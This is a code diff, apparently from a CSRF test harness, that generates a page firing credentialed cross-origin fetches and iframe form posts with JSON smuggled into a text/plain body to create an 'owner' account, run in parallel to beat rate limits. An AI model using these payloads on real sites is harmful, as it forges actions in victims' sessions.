@@ -35,28 +35,27 @@ function writeAttack(target: string, mutations: readonly Mutation[]): string {
     const target = ${JSON.stringify(target)};
     const mutations = ${JSON.stringify(mutations)};
     const body = JSON.stringify({ name: "stolen", email: "evil@example.com", role: "owner" });
+    // What a page can send without asking first, and what a browser asks for first.
+    const requests = [["text/plain", "no-cors"], ["application/x-www-form-urlencoded", "no-cors"], ["application/json", "cors"]];
+    async function submitIn(sandbox, path) {
+      const frame = document.createElement("iframe");
+      if (sandbox !== null) frame.setAttribute("sandbox", sandbox);
+      frame.srcdoc = '<form method="post" enctype="text/plain" action="' + target + path +
+        '"><input name=\\'{"name":"stolen","x":"\\' value=\\'"}\\'></form><script>document.forms[0].submit()<' + '/script>';
+      const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
+      document.body.append(frame);
+      await loaded;
+      await new Promise((done) => setTimeout(done, 50));
+      frame.remove();
+    }
+    // Each attempt of all changes together, so that the rate limit keeps none from being attempted.
     async function attack() {
-      for (const { method, path } of mutations) {
-        const types = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
-        for (const type of types) {
-          for (const mode of ["no-cors", "cors"]) {
-            const headers = { "content-type": type };
-            await fetch(target + path, { method, mode, credentials: "include", headers, body }).catch(() => {});
-          }
-        }
-        if (method === "POST") {
-          for (const sandbox of [null, "allow-forms allow-scripts"]) {
-            const frame = document.createElement("iframe");
-            if (sandbox !== null) frame.setAttribute("sandbox", sandbox);
-            frame.srcdoc = '<form method="post" enctype="text/plain" action="' + target + path +
-              '"><input name=\\'{"name":"stolen","x":"\\' value=\\'"}\\'></form><script>document.forms[0].submit()<' + '/script>';
-            const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
-            document.body.append(frame);
-            await loaded;
-            await new Promise((done) => setTimeout(done, 50));
-            frame.remove();
-          }
-        }
+      for (const [type, mode] of requests) {
+        await Promise.all(mutations.map(({ method, path }) =>
+          fetch(target + path, { method, mode, credentials: "include", headers: { "content-type": type }, body }).catch(() => {})));
+      }
+      for (const sandbox of [null, "allow-forms allow-scripts"]) {
+        await Promise.all(mutations.filter(({ method }) => method === "POST").map(({ path }) => submitIn(sandbox, path)));
       }
       document.title = "Done";
     }
